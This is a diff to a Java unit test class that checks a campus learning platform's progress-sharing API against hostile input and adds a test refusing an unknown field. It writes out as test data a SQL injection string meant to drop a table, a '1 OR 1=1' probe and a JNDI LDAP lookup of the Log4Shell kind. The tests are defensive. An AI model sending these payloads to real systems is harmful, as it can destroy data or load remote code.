@@ -189,7 +189,8 @@ class HostileInputTest {
         t.answers.put("list", args -> new org.campus.api.Page<>(List.of(), null));
 
         FakeHttp.Response deleted = t.call(new FakeHttp.Request("POST", "/share-progress/source-deleted")
-                .basic("admin", "admin-pw").json(INJECTION));
+                .basic("admin", "admin-pw").json("{\"courseId\":\"1; DROP TABLE share_progress\","
+                        + "\"cmId\":\"${jndi:ldap://x/a}\"}"));
         FakeHttp.Response listed = t.call(new FakeHttp.Request("GET", "/share-progress").bearer("lms-all")
                 .param("userId", "1 OR 1=1").param("courseId", "1e5"));
 
@@ -201,6 +202,16 @@ class HostileInputTest {
         org.campus.api.sharing.ShareQuery query = (org.campus.api.sharing.ShareQuery) t.lastArgs.get("list")[0];
         assertEquals("1 OR 1=1", query.userId().value());
         assertEquals("1e5", query.courseId().value());
+    }
+
+    @org.junit.jupiter.api.Test
+    void aFieldTheRequestDoesNotHaveIsRefusedByName() throws Exception {
+        FakeHttp.Response r = t.call(new FakeHttp.Request("POST", "/share-progress/source-deleted")
+                .basic("admin", "admin-pw").json("{\"courseId\":5,\"cmid\":7}"));
+
+        assertRefusedAndNothingChanged(r);
+        assertTrue(r.body().contains("\"field\":\"cmid\""), r.body());
+        assertTrue(!t.lastArgs.containsKey("markSourceDeleted"), r.body());
     }
 
     @org.junit.jupiter.api.Test
